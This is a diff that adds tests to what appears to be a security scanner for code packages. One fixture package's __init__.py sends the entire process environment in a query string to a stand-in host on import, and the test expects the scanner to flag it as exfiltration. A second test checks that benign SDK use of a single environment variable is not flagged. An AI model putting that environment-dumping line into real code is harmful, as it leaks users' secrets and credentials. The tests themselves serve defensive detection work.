@@ -238,3 +238,29 @@ def test_settings_kept_as_class_attributes_stay_quiet(tmp_path):
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- the environment in a URL
+def test_the_whole_environment_in_a_query_string_is_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import os\nimport urllib.parse\nimport urllib.request\n"
+            "urllib.request.urlopen('http://log.example.invalid/c?' + "
+            "urllib.parse.urlencode(dict(os.environ)))\n"
+        )
+    }
+    assert_high_with("env in query", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+def test_one_variable_in_an_sdk_base_url_is_no_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": "",
+        "pkg/client.py": (
+            "import os\nimport requests\n\n\ndef users():\n"
+            "    base = os.environ.get('API_URL', 'https://api.example.invalid')\n"
+            "    requests.get(os.environ['API_URL'] + '/v1/users')\n"
+            "    return requests.get(f\"{base}/v1/users?region={os.getenv('REGION')}\").json()\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
